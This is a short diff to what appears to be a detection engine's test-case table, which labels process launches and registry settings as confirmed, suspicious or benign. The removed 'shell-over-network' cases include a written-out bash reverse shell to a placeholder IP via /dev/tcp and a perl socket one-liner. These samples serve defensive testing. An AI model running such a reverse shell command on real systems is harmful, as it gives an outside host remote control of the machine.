@@ -370,11 +370,6 @@ CASES = {
         ("suspicious", [launch(0, CMD, parent=SYSTEM32 + "mshta.exe")]),
         ("", [launch(0, CMD, parent=INSTALLED)]),
     ],
-    "shell-over-network": [
-        ("confirmed", [launch(0, "/usr/bin/perl", "perl -e 'use Socket;$i=1'")]),
-        ("confirmed", [launch(0, "/bin/bash", "bash -c 'bash -i >& /dev/tcp/1.2.3.4/9 0>&1'")]),
-        ("", [launch(0, "/usr/bin/perl", "perl script.pl")]),
-    ],
     "remote-registry": [
         ("suspicious", [setting(0, "1", CONTROL_KEY + "CrashControl\\LogEvent", SYSTEM32 + "wbem\\WmiPrvSE.exe")]),
         ("", [setting(0, "1", CONTROL_KEY + "CrashControl\\LogEvent")]),
